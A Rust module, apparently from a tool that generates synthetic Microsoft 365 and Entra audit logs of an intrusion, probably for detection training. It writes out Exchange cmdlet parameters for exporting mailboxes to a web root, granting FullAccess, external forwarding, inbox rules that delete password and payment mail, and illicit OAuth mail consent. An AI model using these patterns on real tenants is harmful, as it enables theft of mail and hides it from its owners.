//! Mailboxes exported, granted, forwarded and read.

use model::{Exposed, ExposureKind};

use super::desk::Desk;
use super::entry::cmdlet;
use super::spray::sign_in;
use crate::calendar::SECOND;
use crate::formats::entra::{self, Change};
use crate::formats::m365::{self, Access, Action};
use crate::world::Person;

/// Whole mailboxes exported as files into a web directory.
pub(super) fn exported(desk: &mut Desk<'_>, count: usize) {
    for number in 0..count {
        desk.wait(20, 200);
        let person = victim(desk, 3 + number);
        let file = format!("{}.pst", desk.dice.letters(6));
        let parameters = format!(
            "-Mailbox \"{}\" -FilePath \"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\{file}\"",
            person.mail
        );
        desk.hostile("export-to-webroot", "exported a whole mailbox into a web directory");
        cmdlet(desk, "New-MailboxExportRequest", &parameters, "");
        desk.at_risk(Exposed::Mailbox, &person.mail, ExposureKind::Taken);
        desk.exports.push((format!("/aspnet_client/{file}"), file));
    }
}

/// Somebody whose mail is worth reading.
fn victim<'a>(desk: &Desk<'a>, number: usize) -> &'a Person {
    let people = &desk.cx.world.people;
    &people[(29 + 31 * number) % people.len()]
}

/// Stages one of the ways to read mail.
pub(super) fn accessed(desk: &mut Desk<'_>, variant: &str, count: usize) {
    match variant {
        "grant" => granted(desk, count),
        "forward" => forwarded(desk, count),
        "rules" => ruled(desk, count),
        _ => read(desk, count),
    }
}

/// Full access to several mailboxes for the stolen account.
fn granted(desk: &mut Desk<'_>, count: usize) {
    for number in 0..count {
        desk.wait(10, 70);
        let person = victim(desk, 20 + number);
        desk.hostile("mailbox-access", "gave one account full access to a mailbox, among several");
        let account = &desk.cx.world.services.stolen.sam;
        let parameters = format!(
            "-Identity \"{}\" -User \"{account}\" -AccessRights \"FullAccess\" -InheritanceType \"All\" -AutoMapping \"False\"",
            person.mail
        );
        cmdlet(desk, "Add-MailboxPermission", &parameters, "");
        desk.at_risk(Exposed::Mailbox, &person.mail, ExposureKind::CouldRead);
    }
}

/// Mail forwarded to a mailbox outside.
fn forwarded(desk: &mut Desk<'_>, count: usize) {
    for number in 0..count {
        desk.wait(30, 200);
        let person = victim(desk, 40 + number);
        let drop = desk.cx.world.intruder.drop.clone();
        desk.hostile("mailbox-access", "let mail be forwarded to an address outside");
        if number.is_multiple_of(2) {
            let parameters = format!(
                "-Identity \"{}\" -ForwardingSmtpAddress \"smtp:{drop}\" -DeliverToMailboxAndForward \"True\"",
                person.mail
            );
            cmdlet(desk, "Set-Mailbox", &parameters, "");
        } else {
            let parameters = format!(
                "-Mailbox \"{}\" -Name \".\" -ForwardTo \"{drop}\" -StopProcessingRules \"False\"",
                person.mail
            );
            cmdlet(desk, "New-InboxRule", &parameters, "");
        }
        desk.at_risk(Exposed::Mailbox, &person.mail, ExposureKind::Taken);
    }
}

/// The same in the cloud.
fn ruled(desk: &mut Desk<'_>, count: usize) {
    let world = desk.cx.world;
    let how = desk.dice.pick(&["ForwardTo", "RedirectTo", "ForwardAsAttachmentTo"]);
    for number in 0..count {
        desk.wait(30, 200);
        let person = spray_victim(desk, number);
        desk.hostile("mailbox-access", "let mail be forwarded to an address outside, in the cloud");
        let drop = &world.intruder.drop;
        let (operation, more) = if number == 0 {
            (
                "New-InboxRule",
                m365::parameters(&[
                    ("Name", ".."),
                    (how, drop),
                    ("SubjectContainsWords", "register;password;payment"),
                    ("DeleteMessage", "True"),
                ]),
            )
        } else {
            let smtp = format!("smtp:{drop}");
            (
                "Set-Mailbox",
                m365::parameters(&[
                    ("Identity", &person.mail),
                    ("ForwardingSmtpAddress", &smtp),
                    ("DeliverToMailboxAndForward", "True"),
                ]),
            )
        };
        let action = Action {
            operation,
            record_type: 1,
            workload: "Exchange",
            user: &person.mail,
            client: &world.intruder.cloud,
            object: &person.mail,
            result: "True",
            more: &more,
        };
        m365::add(desk.plan.out("m365"), &mut desk.dice, world, desk.now, &action);
        desk.at_risk(Exposed::Mailbox, &person.mail, ExposureKind::Taken);
    }
}

/// Those whose passwords were guessed.
pub(super) fn spray_victim<'a>(desk: &Desk<'a>, number: usize) -> &'a Person {
    let people = &desk.cx.world.people;
    &people[(61 + 47 * (number % 3)) % people.len()]
}

/// Two mailboxes read message by message through an application that was given consent.
fn read(desk: &mut Desk<'_>, count: usize) {
    let world = desk.cx.world;
    for number in 0..2 {
        let person = spray_victim(desk, number);
        desk.hostile("mailbox-access", "signed in with a guessed password before reading mail");
        desk.wait(20, 90);
        sign_in(desk, person, ("Browser", &world.intruder.agent), 0);
        desk.at_risk(Exposed::Account, &person.mail, ExposureKind::Taken);
    }
    consent(desk);
    let program = desk.dice.pick(&[
        "Client=REST;Client=RESTSystem;;",
        "Client=REST;Client=RESTSystem;UserAgent=python-requests;",
        "Client=WebServices;ExchangeWebServicesProxy;",
    ]);
    for number in 0..count {
        desk.wait(4, 30);
        let person = spray_victim(desk, number % 2);
        desk.hostile("mailbox-access", "read mail in bulk from an address that its owner does not use");
        let folder = desk.dice.pick(&["Inbox", "Inbox", "Sent Items", "Archive"]);
        let sync = number % 11 == 10;
        let access = Access {
            user: &person.mail,
            owner: person,
            client: &world.intruder.cloud,
            program,
            kind: if sync { "Sync" } else { "Bind" },
            folder,
            items: 1 + desk.dice.below(12),
        };
        m365::items_accessed(desk.plan.out("m365"), &mut desk.dice, world, desk.now, &access);
        desk.at_risk(Exposed::Mailbox, &person.mail, ExposureKind::Read);
    }
}

fn consent(desk: &mut Desk<'_>) {
    let world = desk.cx.world;
    let person = spray_victim(desk, 0);
    let name = format!("{} Mail Helper", world.intruder.tools[3]);
    desk.hostile("mailbox-access", "gave an application consent to read mail");
    let more = format!(
        ",\"AzureActiveDirectoryEventType\":1,\"ExtendedProperties\":[],\"ModifiedProperties\":[{{\"Name\":\"ConsentAction.Permissions\",\
         \"NewValue\":\"[] => [[Scope: Mail.Read Mail.ReadWrite offline_access]]\",\"OldValue\":\"\"}},\
         {{\"Name\":\"ConsentContext.IsAdminConsent\",\"NewValue\":\"False\",\"OldValue\":\"\"}}],\"Target\":[{{\"ID\":\"{name}\",\"Type\":1}}]"
    );
    let action = Action {
        operation: "Consent to application.",
        record_type: 8,
        workload: "AzureActiveDirectory",
        user: &person.mail,
        client: &world.intruder.cloud,
        object: &name,
        result: "Success",
        more: &more,
    };
    m365::add(desk.plan.out("m365"), &mut desk.dice, world, desk.now, &action);
    let change = Change {
        activity: "Consent to application",
        category: "ApplicationManagement",
        by: &person.mail,
        client: &world.intruder.cloud,
        target: &name,
        target_type: "ServicePrincipal",
        properties: "{\"displayName\":\"ConsentContext.IsAdminConsent\",\"oldValue\":null,\"newValue\":\"\\\"False\\\"\"},\
                     {\"displayName\":\"ConsentAction.Permissions\",\"oldValue\":null,\"newValue\":\"\\\"[] => [[ConsentType: \
                     Principal, Scope: Mail.Read Mail.ReadWrite offline_access]]\\\"\"}",
    };
    entra::change(desk.plan.out("entra-audit"), &mut desk.dice, desk.now + SECOND, &change);
}
